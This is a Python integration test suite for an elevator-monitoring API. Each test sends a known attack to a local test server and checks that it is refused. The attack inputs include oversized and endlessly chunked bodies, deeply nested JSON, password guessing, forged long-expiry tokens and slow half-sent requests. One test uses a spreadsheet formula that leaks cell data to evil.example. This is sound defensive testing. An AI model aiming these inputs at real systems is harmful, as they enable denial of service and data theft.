"""The API defends itself: each test is an attack that worked before, sent to a real server
on the test database, and the answer that now stops it (docs/security.md)."""

from __future__ import annotations

import concurrent.futures
import csv
import datetime as dt
import hashlib
import io
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, ClassVar
from urllib.parse import urlsplit

import httpx
import jwt
import psycopg
import pytest

from api.context import ApiContext
from core.db import libpq_url
from core.settings import Settings
from tests.integration.api_helpers import (
    Person,
    add_person,
    add_site_with_elevator,
    client,
    running_api,
)
from tests.integration.cli_helpers import clean_environment, run_cli
from tests.integration.databases import migrated_database

MIB = 1024 * 1024
GOOD_PASSWORD = "lift-rescue-7Q"


@dataclass
class Server:
    """The API on the test database, with an admin, a supervisor and an elevator."""

    conn: psycopg.Connection[Any]
    http: httpx.Client
    base_url: str
    admin: Person
    supervisor: Person
    elevator: str
    settings: Settings


@pytest.fixture(scope="module")
def server(stack_settings: Settings, test_database_url: str) -> Iterator[Server]:
    conn = psycopg.connect(libpq_url(test_database_url))
    _, elevator = add_site_with_elevator(conn, "def")
    admin = add_person(conn, stack_settings, "admin")
    supervisor = add_person(conn, stack_settings, "supervisor")
    with running_api(stack_settings, test_database_url) as base_url, client(base_url) as http:
        yield Server(conn, http, base_url, admin, supervisor, elevator, stack_settings)
    conn.close()


def _address(base_url: str) -> tuple[str, int]:
    parts = urlsplit(base_url)
    assert parts.hostname is not None
    assert parts.port is not None
    return parts.hostname, parts.port


def _raw_response(sock: socket.socket, timeout_s: float) -> bytes:
    sock.settimeout(timeout_s)
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n")
                   if line.lower().startswith(b"content-length:")), 0)  # fmt: skip
    while len(body) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        body += chunk
    return head + b"\r\n\r\n" + body


# -- 1. request bodies ---------------------------------------------------------------------


@pytest.mark.integration
@pytest.mark.parametrize("path", ["/api/v1/auth/token", "/api/v1/elevators", "/api/v1/nowhere"])
def test_a_declared_150_mb_body_without_a_token_is_refused_before_it_is_sent(
    server: Server, path: str
) -> None:
    with socket.create_connection(_address(server.base_url), timeout=10) as sock:
        sock.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                     f"Content-Length: {150 * MIB}\r\n\r\n".encode())  # fmt: skip
        answer = _raw_response(sock, timeout_s=10)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b'"code":"payload_too_large"' in answer


@pytest.mark.integration
def test_a_chunked_body_is_cut_off_at_the_limit_without_reading_the_rest(server: Server) -> None:
    chunk = b"x" * 65536
    with socket.create_connection(_address(server.base_url), timeout=10) as sock:
        sock.sendall(b"POST /api/v1/elevators HTTP/1.1\r\nHost: x\r\nContent-Type: "
                     b"application/json\r\nTransfer-Encoding: chunked\r\n\r\n")  # fmt: skip
        # Just over the limit, and the body never ends: only a server that stops reading
        # at the limit can answer.
        for _ in range(MIB // len(chunk) + 2):
            sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        answer = _raw_response(sock, timeout_s=10)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b'"code":"payload_too_large"' in answer


@pytest.mark.integration
def test_a_body_within_the_limit_is_still_read(server: Server) -> None:
    response = server.http.post("/api/v1/elevators", content=b"{" + b" " * (MIB - 100) + b"}",
                                headers={**server.admin.headers,
                                         "Content-Type": "application/json"})  # fmt: skip
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "invalid_input"


@pytest.mark.integration
@pytest.mark.parametrize("content_type", ["application/json", None])
@pytest.mark.parametrize("opener", [b"[", b'{"a":'])
def test_a_deeply_nested_json_body_is_refused_and_the_api_lives_on(
    server: Server, content_type: str | None, opener: bytes
) -> None:
    # 100,000 levels in well under the size limit: enough to overflow the JSON decoder's C
    # stack in a process whose recursion limit web3 raised.
    body = opener * 100_000
    headers = dict(server.admin.headers)
    if content_type is not None:
        headers["Content-Type"] = content_type
    response = server.http.post("/api/v1/elevators", content=body, headers=headers)
    assert response.status_code == 400, response.text
    assert response.json()["code"] == "too_deep"
    assert response.json()["field"] == "body"
    assert server.http.get("/healthz").status_code == 200


@pytest.mark.integration
def test_a_json_body_nested_within_the_bound_reaches_the_validation(server: Server) -> None:
    nested = b"[" * 20 + b"]" * 20
    response = server.http.post(
        "/api/v1/elevators",
        content=b'{"id": ' + nested + b"}",
        headers={**server.admin.headers, "Content-Type": "application/json"},
    )
    assert response.status_code == 422, response.text
    assert response.json()["field"] is not None


# -- 2. sign-in rate limits ------------------------------------------------------------------


@pytest.mark.integration
def test_after_five_wrong_passwords_even_the_right_one_waits(
    stack_settings: Settings, test_database_url: str
) -> None:
    with psycopg.connect(libpq_url(test_database_url)) as conn:
        person = add_person(conn, stack_settings, "supervisor", password=GOOD_PASSWORD)
    overrides: dict[str, Any] = {"api_sign_in_backoff_s": 2.0}
    with running_api(stack_settings, test_database_url, **overrides) as url, client(url) as http:
        form = {"username": person.username, "password": "wrong-password-x"}
        statuses = [http.post("/api/v1/auth/token", data=form).status_code for _ in range(5)]
        assert statuses == [401] * 5
        form["password"] = GOOD_PASSWORD
        refused = http.post("/api/v1/auth/token", data=form)
        assert refused.status_code == 429
        assert refused.json()["code"] == "too_many_attempts"
        assert 1 <= int(refused.headers["Retry-After"]) <= 2
        time.sleep(int(refused.headers["Retry-After"]) + 0.2)
        assert http.post("/api/v1/auth/token", data=form).status_code == 200


@pytest.mark.integration
def test_one_address_guessing_many_usernames_is_stopped(
    stack_settings: Settings, test_database_url: str
) -> None:
    with psycopg.connect(libpq_url(test_database_url)) as conn:
        person = add_person(conn, stack_settings, "supervisor", password=GOOD_PASSWORD)
    with running_api(stack_settings, test_database_url) as url, client(url) as http:

        def guess(n: int) -> int:
            form = {"username": f"guess-{n}", "password": "hunter2hunter2"}
            return http.post("/api/v1/auth/token", data=form).status_code

        with concurrent.futures.ThreadPoolExecutor(8) as pool:
            statuses = list(pool.map(guess, range(40)))
        assert statuses.count(401) <= 20
        assert statuses.count(429) >= 20
        form = {"username": person.username, "password": GOOD_PASSWORD}
        assert http.post("/api/v1/auth/token", data=form).status_code == 429


def _client_from(base_url: str, address: str) -> httpx.Client:
    """A client whose connections come from `address` (any of 127.0.0.0/8 on loopback)."""
    transport = httpx.HTTPTransport(local_address=address)
    return httpx.Client(base_url=base_url, timeout=30.0, transport=transport)


@pytest.mark.integration
def test_a_user_locked_out_by_failures_at_one_address_signs_in_from_another(
    stack_settings: Settings, test_database_url: str
) -> None:
    with psycopg.connect(libpq_url(test_database_url)) as conn:
        site, _ = add_site_with_elevator(conn, "sign")
        person = add_person(conn, stack_settings, "crew", sites=[site], password=GOOD_PASSWORD)
    with (
        running_api(stack_settings, test_database_url) as url,
        _client_from(url, "127.0.0.2") as guesser,
        _client_from(url, "127.0.0.3") as crew,
    ):
        form = {"username": person.username, "password": "wrong-password-x"}
        statuses = [guesser.post("/api/v1/auth/token", data=form).status_code for _ in range(6)]
        assert statuses == [401] * 5 + [429]
        right = {"username": person.username, "password": GOOD_PASSWORD}
        assert guesser.post("/api/v1/auth/token", data=right).status_code == 429
        assert crew.post("/api/v1/auth/token", data=right).status_code == 200


@pytest.mark.integration
def test_a_guesser_spread_over_many_addresses_is_stopped_at_the_username_limit(
    stack_settings: Settings, test_database_url: str
) -> None:
    with psycopg.connect(libpq_url(test_database_url)) as conn:
        site, _ = add_site_with_elevator(conn, "sign")
        person = add_person(conn, stack_settings, "crew", sites=[site], password=GOOD_PASSWORD)
    with running_api(stack_settings, test_database_url) as url:

        def guess(n: int) -> list[int]:
            form = {"username": person.username, "password": f"wrong-password-{n}"}
            with _client_from(url, f"127.0.1.{n}") as http:
                return [http.post("/api/v1/auth/token", data=form).status_code for _ in range(5)]

        with concurrent.futures.ThreadPoolExecutor(8) as pool:
            statuses = [status for batch in pool.map(guess, range(1, 31)) for status in batch]
        assert statuses.count(401) <= 50
        assert statuses.count(429) >= 100
        with _client_from(url, "127.0.2.1") as crew:
            form = {"username": person.username, "password": GOOD_PASSWORD}
            assert crew.post("/api/v1/auth/token", data=form).status_code == 429


# -- 3. password policy ----------------------------------------------------------------------


@pytest.mark.integration
@pytest.mark.parametrize("password", ["password123", "Qwerty123456", "P@ssw0rd2024"])
def test_a_common_password_is_refused_for_a_new_user_and_a_change(
    server: Server, password: str
) -> None:
    name = f"pw-{uuid.uuid4().hex[:8]}"
    created = server.http.post("/api/v1/users", headers=server.admin.headers,
                               json={"username": name, "role": "supervisor",
                                     "password": password})  # fmt: skip
    assert created.status_code == 422, created.text
    assert created.json()["code"] == "weak_password"
    assert created.json()["field"] == "password"
    path = f"/api/v1/users/{server.supervisor.username}"
    changed = server.http.put(path, headers=server.admin.headers, json={"password": password})
    assert changed.status_code == 422
    assert changed.json()["code"] == "weak_password"


@pytest.mark.integration
def test_the_cli_refuses_a_common_password(
    stack_settings: Settings, test_database_url: str
) -> None:
    env = clean_environment(LIFTLEDGER_DATA_DIR=str(stack_settings.data_dir),
                            LIFTLEDGER_DATABASE_URL=test_database_url)  # fmt: skip
    result = run_cli("users", "add", f"cli-{uuid.uuid4().hex[:6]}", "--role", "supervisor",
                     "--password-stdin", env=env, input_text="iloveyou123\n")  # fmt: skip
    assert result.returncode == 1
    assert "commonly used" in result.stderr


# -- 4. tokens -------------------------------------------------------------------------------


def _fresh_supervisor(server: Server) -> tuple[Person, dict[str, str]]:
    person = add_person(server.conn, server.settings, "supervisor", password=GOOD_PASSWORD)
    form = {"username": person.username, "password": GOOD_PASSWORD}
    signed_in = server.http.post("/api/v1/auth/token", data=form)
    assert signed_in.status_code == 200
    return person, {"Authorization": f"Bearer {signed_in.json()['access_token']}"}


@pytest.mark.integration
def test_a_password_change_ends_every_token_issued_before(server: Server) -> None:
    person, signed_in = _fresh_supervisor(server)
    assert server.http.get("/api/v1/auth/me", headers=signed_in).status_code == 200
    changed = server.http.put(f"/api/v1/users/{person.username}", headers=server.admin.headers,
                              json={"password": "another-Lift-pass-9"})  # fmt: skip
    assert changed.status_code == 200, changed.text
    for headers in (signed_in, person.headers):
        refused = server.http.get("/api/v1/auth/me", headers=headers)
        assert refused.status_code == 401
        assert refused.json()["code"] == "invalid_token"


@pytest.mark.integration
def test_a_deactivated_and_reactivated_user_keeps_none_of_the_old_tokens(server: Server) -> None:
    person, signed_in = _fresh_supervisor(server)
    path = f"/api/v1/users/{person.username}"
    assert server.http.put(path, headers=server.admin.headers,
                           json={"active": False}).status_code == 200  # fmt: skip
    assert server.http.put(path, headers=server.admin.headers,
                           json={"active": True}).status_code == 200  # fmt: skip
    assert server.http.get("/api/v1/auth/me", headers=signed_in).status_code == 401


@pytest.mark.integration
def test_revoking_a_users_tokens_ends_them_and_a_new_sign_in_works(server: Server) -> None:
    person, signed_in = _fresh_supervisor(server)
    revoked = server.http.post(f"/api/v1/users/{person.username}/revoke-tokens",
                               headers=server.admin.headers)  # fmt: skip
    assert revoked.status_code == 200, revoked.text
    assert server.http.get("/api/v1/auth/me", headers=signed_in).status_code == 401
    again = server.http.post(
        "/api/v1/auth/token", data={"username": person.username, "password": GOOD_PASSWORD}
    )
    token = again.json()["access_token"]
    me = server.http.get("/api/v1/auth/me", headers={"Authorization": f"Bearer {token}"})
    assert me.status_code == 200


@pytest.mark.integration
@pytest.mark.parametrize("exp", [2**62, 10**30, int(time.time()) + 3650 * 86400])
def test_a_token_with_an_absurd_or_decade_long_expiry_is_a_401(server: Server, exp: int) -> None:
    claims = {"sub": server.admin.username, "iss": "liftledger", "iat": int(time.time()),
              "exp": exp, "ver": 0}  # fmt: skip
    token = jwt.encode(claims, server.settings.secret("jwt_secret"), algorithm="HS256")
    response = server.http.get("/api/v1/auth/me", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 401, response.text
    assert response.json()["code"] == "invalid_token"


@pytest.mark.integration
def test_the_cli_refuses_a_token_of_ten_years(
    server: Server, stack_settings: Settings, test_database_url: str
) -> None:
    env = clean_environment(LIFTLEDGER_DATA_DIR=str(stack_settings.data_dir),
                            LIFTLEDGER_DATABASE_URL=test_database_url)  # fmt: skip
    refused = run_cli("token", server.supervisor.username, "--ttl", "3650d", env=env)
    assert refused.returncode == 1
    assert "30d" in refused.stderr
    issued = run_cli("token", server.supervisor.username, "--ttl", "30d", env=env)
    assert issued.returncode == 0, issued.stderr
    token = issued.stdout.strip().splitlines()[-1]
    me = server.http.get("/api/v1/auth/me", headers={"Authorization": f"Bearer {token}"})
    assert me.status_code == 200


# -- 5. whole-log verification ---------------------------------------------------------------


class SlowReport:
    entries = anchored_size = anchors_checked = 0
    ok = True
    problems: ClassVar[list[Any]] = []


class SlowLedger:
    """A ledger view whose whole-log verification takes a second and is counted."""

    def __init__(self) -> None:
        self.runs = 0
        self.threads: set[str] = set()
        self._lock = threading.Lock()

    def verify_log(self, conn: Any) -> SlowReport:
        with self._lock:
            self.runs += 1
        self.threads.add(threading.current_thread().name)
        time.sleep(1.0)
        return SlowReport()


@pytest.mark.integration
def test_twenty_concurrent_verifications_run_twice_at_most_and_other_requests_go_on(
    server: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    ledger = SlowLedger()
    monkeypatch.setattr(ApiContext, "ledger_view", lambda self, conn: ledger)

    def verify(_: int) -> httpx.Response:
        with client(server.base_url) as http:
            return http.post("/api/v1/audit/verify", headers=server.supervisor.headers)

    with concurrent.futures.ThreadPoolExecutor(20) as pool:
        first = pool.submit(verify, 0)
        deadline = time.monotonic() + 10
        while ledger.runs == 0 and time.monotonic() < deadline:
            time.sleep(0.01)
        # Asked while the first verification reads the log: its report may be stale for them.
        calls = [first] + [pool.submit(verify, n) for n in range(1, 20)]
        time.sleep(0.3)
        started = time.monotonic()
        listed = server.http.get("/api/v1/alerts", headers=server.supervisor.headers)
        alert_list_s = time.monotonic() - started
        responses = [call.result() for call in calls]
    assert all(r.status_code == 200 for r in responses), responses[0].text
    assert ledger.runs == 2  # the first, and one follow-up shared by the other nineteen
    later = {dt.datetime.fromisoformat(r.json()["started_at"]) for r in responses[1:]}
    assert len(later) == 1
    assert later.pop() >= dt.datetime.fromisoformat(responses[0].json()["finished_at"])
    assert "MainThread" not in ledger.threads  # off the event loop's thread
    assert "api-under-test" not in ledger.threads
    assert listed.status_code == 200
    assert alert_list_s < 0.9  # one verification (1 s) would hold it up longer


# -- 6. slow and idle connections ------------------------------------------------------------


@pytest.mark.integration
def test_a_half_sent_request_is_disconnected_within_the_read_timeout(
    stack_settings: Settings, test_database_url: str
) -> None:
    overrides: dict[str, Any] = {"api_request_read_timeout_s": 1.0, "api_keep_alive_s": 1}
    with running_api(stack_settings, test_database_url, **overrides) as url:
        for partial in (b"", b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow",
                        b"POST /api/v1/auth/token HTTP/1.1\r\nHost: x\r\n"
                        b"Content-Type: application/x-www-form-urlencoded\r\n"
                        b"Content-Length: 100\r\n\r\nusername=a"):  # fmt: skip
            with socket.create_connection(_address(url), timeout=10) as sock:
                sock.sendall(partial)
                started = time.monotonic()
                sock.settimeout(10)
                assert sock.recv(65536) == b"", partial  # closed, not answered
                assert time.monotonic() - started < 3.0, partial


@pytest.mark.integration
def test_an_idle_connection_after_a_response_is_closed(
    stack_settings: Settings, test_database_url: str
) -> None:
    overrides: dict[str, Any] = {"api_request_read_timeout_s": 1.0, "api_keep_alive_s": 1}
    with running_api(stack_settings, test_database_url, **overrides) as url:
        with socket.create_connection(_address(url), timeout=10) as sock:
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            assert _raw_response(sock, timeout_s=10).startswith(b"HTTP/1.1 200")
            started = time.monotonic()
            assert sock.recv(65536) == b""
            assert time.monotonic() - started < 3.0


# -- 7. security headers ---------------------------------------------------------------------


@pytest.mark.integration
@pytest.mark.parametrize("path", ["/api/v1/alerts", "/api/v1/nowhere", "/healthz", "/metrics"])
def test_every_api_answer_carries_the_security_headers(server: Server, path: str) -> None:
    response = server.http.get(path, headers=server.admin.headers)
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["referrer-policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert "default-src 'none'" in response.headers["content-security-policy"]
    assert response.headers["cache-control"] == "no-store"


@pytest.mark.integration
def test_the_docs_page_may_load_swagger_ui_under_its_policy(server: Server) -> None:
    response = server.http.get("/docs")
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    assert "https://cdn.jsdelivr.net" in policy
    assert "frame-ancestors 'none'" in policy
    assert response.headers["x-frame-options"] == "DENY"


# -- 8. CSV export ---------------------------------------------------------------------------


@pytest.mark.integration
def test_a_report_csv_escapes_a_formula_in_a_building_name(server: Server) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    site, elevator = add_site_with_elevator(server.conn, "csv")
    server.conn.execute("UPDATE elevators SET building = %s WHERE id = %s", (formula, elevator))
    server.conn.commit()
    response = server.http.get("/api/v1/reports/availability", headers=server.admin.headers,
                               params={"format": "csv", "site": site})  # fmt: skip
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [row["building"] for row in rows] == ["'" + formula]


# -- 9. the last admin -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def lone_admin_database(stack_settings: Settings, test_database_url: str) -> Iterator[str]:
    """A database of its own (other tests' admins must not count), migrated from scratch."""
    name = urlsplit(libpq_url(test_database_url)).path.lstrip("/") + "_lone_admin"
    with migrated_database(stack_settings, name) as url:
        yield url


@pytest.mark.integration
def test_the_last_active_admin_can_be_neither_demoted_nor_deactivated(
    stack_settings: Settings, lone_admin_database: str
) -> None:
    with psycopg.connect(libpq_url(lone_admin_database)) as conn:
        admin = add_person(conn, stack_settings, "admin")
    env = clean_environment(LIFTLEDGER_DATA_DIR=str(stack_settings.data_dir),
                            LIFTLEDGER_DATABASE_URL=lone_admin_database)  # fmt: skip
    with running_api(stack_settings, lone_admin_database) as url, client(url) as http:
        path = f"/api/v1/users/{admin.username}"
        for change in ({"role": "supervisor"}, {"active": False}):
            refused = http.put(path, headers=admin.headers, json=change)
            assert refused.status_code == 409, refused.text
            assert refused.json()["code"] == "last_admin"
        cli = run_cli("users", "set", admin.username, "--active", "no", env=env)
        assert cli.returncode == 1
        assert "last active admin" in cli.stderr
        # With a second admin, the first may step down, and the second is then the last.
        second = http.post("/api/v1/users", headers=admin.headers,
                           json={"username": "second-admin", "role": "admin"})  # fmt: skip
        assert second.status_code == 201, second.text
        assert http.put(path, headers=admin.headers, json={"role": "supervisor"}).status_code == 200
        cli = run_cli("users", "set", "second-admin", "--role", "crew", "--sites", "x", env=env)
        assert cli.returncode == 1
        assert "last active admin" in cli.stderr


# -- 11. registry ranges ---------------------------------------------------------------------


@pytest.mark.integration
@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"thresholds": {"escalate_ack_s": 1e18}}, "thresholds.escalate_ack_s"),
        ({"thresholds": {"trapped_s": -5}}, "thresholds.trapped_s"),
        ({"rated_speed_mps": 99999}, "rated_speed_mps"),
        ({"rated_load_kg": 1e9}, "rated_load_kg"),
        ({"acceleration_mps2": 1000}, "acceleration_mps2"),
        ({"floor_height_m": 0.01}, "floor_height_m"),
        ({"jerk_mps3": 500}, "jerk_mps3"),
        ({"highest_floor": 100000}, "highest_floor"),
    ],
)
def test_a_registry_number_out_of_range_is_a_422_naming_the_field(
    server: Server, change: dict[str, Any], field: str
) -> None:
    response = server.http.put(f"/api/v1/elevators/{server.elevator}",
                               headers=server.admin.headers, json=change)  # fmt: skip
    assert response.status_code == 422, response.text
    assert response.json()["field"] == field
    row = server.conn.execute("SELECT thresholds, rated_speed_mps FROM elevators WHERE id = %s",
                              (server.elevator,)).fetchone()  # fmt: skip
    server.conn.rollback()
    assert row == ({}, 1.0)


# -- 12. dead letters ------------------------------------------------------------------------


@pytest.mark.integration
def test_a_dead_letter_page_carries_previews_not_megabyte_payloads(server: Server) -> None:
    payload = b'{"x":"' + "é".encode() * (MIB // 2) + b'"}'
    server.conn.execute(
        "INSERT INTO dead_letters (topic, reason, detail, elevator_id, payload, payload_size, "
        "payload_sha256) VALUES (%s, 'too_large', 'x', %s, %s, %s, %s)",
        ("lift/v1/s/e/telemetry", server.elevator, payload, len(payload),
         hashlib.sha256(payload).digest()),
    )  # fmt: skip
    server.conn.commit()
    response = server.http.get("/api/v1/dead-letters", headers=server.admin.headers,
                               params={"elevator": server.elevator})  # fmt: skip
    assert response.status_code == 200
    assert len(response.content) < 10_000
    item = response.json()["items"][0]
    assert item["payload_size"] == len(payload)
    assert item["payload_sha256"] == hashlib.sha256(payload).hexdigest()
    assert item["truncated"] is True
    assert item["preview_text"].startswith('{"x":"é')
    too_many = server.http.get("/api/v1/dead-letters", headers=server.admin.headers,
                               params={"limit": 500})  # fmt: skip
    assert too_many.status_code == 422
    assert too_many.json()["field"] == "limit"
